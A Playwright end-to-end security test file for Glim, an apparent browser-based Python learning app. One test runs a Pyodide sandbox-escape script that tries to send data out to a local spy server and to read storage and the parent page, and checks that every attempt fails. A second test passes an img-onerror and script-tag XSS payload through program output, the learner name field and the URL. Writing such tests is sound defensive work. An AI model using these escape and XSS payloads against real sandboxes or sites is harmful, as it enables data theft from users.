import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { openExercise } from '../e2e/exercise-page.ts';
import { expect, test } from '../e2e/journey.ts';

// What the walls refuse, the browser tells developers.
test.use({ forgiven: /Content Security Policy|violates|sandbox|Refused/i });

/** Every way to a global object that Python is known to offer, each tried with everything worth having. */
const attack = (spy: string, site: string) => `
import asyncio, inspect
reached, tried = [], 0

def roots():
    import js, pyodide_js
    yield lambda: js
    yield lambda: js.console.constructor.constructor("return globalThis")()
    yield lambda: pyodide_js._api.config.jsglobals.constructor.constructor("return globalThis")()

wanted = {
    "fetch": lambda g: g.fetch("${spy}/stolen"),
    "own fetch": lambda g: g.fetch("${site}/stolen"),
    "request": lambda g: [x := g.XMLHttpRequest.new(), x.open("GET", "${spy}/stolen", False), x.send()],
    "socket": lambda g: g.WebSocket.new("${spy.replace('http', 'ws')}/stolen"),
    "script": lambda g: g.importScripts("${spy}/stolen"),
    "database": lambda g: g.indexedDB.open("glim"),
    "caches": lambda g: g.caches.keys(),
    "storage": lambda g: g.localStorage.getItem("secret"),
    "page": lambda g: g.parent.document,
    "channel": lambda g: g.BroadcastChannel.new("glim").postMessage("stolen"),
}

async def attempt(name, action):
    global tried
    tried += 1
    try:
        found = action()
        if inspect.isawaitable(found):
            found = await asyncio.wait_for(found, 1)
        reached.append(name)
    except BaseException:
        pass

async def main():
    await attempt("what is free", lambda: asyncio.sleep(0))
    for number, root in enumerate(roots()):
        for name, get in wanted.items():
            await attempt(f"{name} {number}", lambda: get(root()))

asyncio.run(main())
print("tried", tried)
print("reached", [name for name in reached if not name.startswith(("socket", "database", "channel"))])
`;

test('a program in the built app reaches no server, no storage and no page', async ({ site, page }) => {
	const asked: string[] = [];
	const spy = createServer((request, response) => {
		asked.push(request.url ?? '');
		response.setHeader('access-control-allow-origin', '*');
		response.end('spied');
	});
	spy.on('upgrade', (request) => asked.push(`upgrade ${request.url}`));
	await new Promise<void>((resolve) => spy.listen(0, 'localhost', resolve));
	try {
		const { port } = spy.address() as AddressInfo;
		const exercise = await openExercise(page, site, 'python/printing/half-a-year-in-space');
		await page.evaluate(() => {
			localStorage.setItem('secret', 'kept');
			new BroadcastChannel('glim').onmessage = () => localStorage.setItem('secret', 'told');
		});
		await exercise.runProgram(attack(`http://localhost:${port}`, site.url));
		await expect(exercise.output).toContainText('tried 31');
		await expect(exercise.output).toContainText("reached ['what is free']");
		await exercise.runProgram('print("the next program runs")');
		await expect(exercise.output).toHaveText('the next program runs');

		expect(asked).toEqual([]);
		expect(site.requests.filter(({ path }) => path.includes('stolen'))).toEqual([]);
		expect(await page.evaluate(() => localStorage.getItem('secret'))).toBe('kept');
	} finally {
		spy.close();
	}
});

const markup = '<img src="/stolen" onerror="document.title=1"><script>document.title=1</script><b>bold</b>';

test('what a program prints, a learner writes and an address says is text and never markup', async ({
	site,
	page
}) => {
	const exercise = await openExercise(page, site, 'python/printing/a-sign-for-the-stall');
	await exercise.runProgram(`print(${JSON.stringify(markup)})`);
	await expect(exercise.output).toHaveText(markup);
	await exercise.submit.click();
	await expect(exercise.said('0 of 6 tests pass.')).toBeVisible();
	await expect(page.locator('main img[src*=stolen], main script, main b')).toHaveCount(0);

	await page.goto(`${site.url}/settings`);
	await page.getByRole('textbox', { name: 'Name' }).fill(markup.slice(0, 60));
	await page.getByRole('button', { name: 'Add a learner' }).click();
	await expect(page.getByText('learning now', { exact: true })).toBeVisible();
	await page.goto(`${site.url}/?q=${encodeURIComponent(markup)}#${encodeURIComponent(markup)}`);
	await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
	await expect(page.locator('img[src*=stolen]')).toHaveCount(0);
	expect(site.requests.filter(({ path }) => path === '/stolen')).toEqual([]);
	await expect(page).toHaveTitle(/Glim/);
});
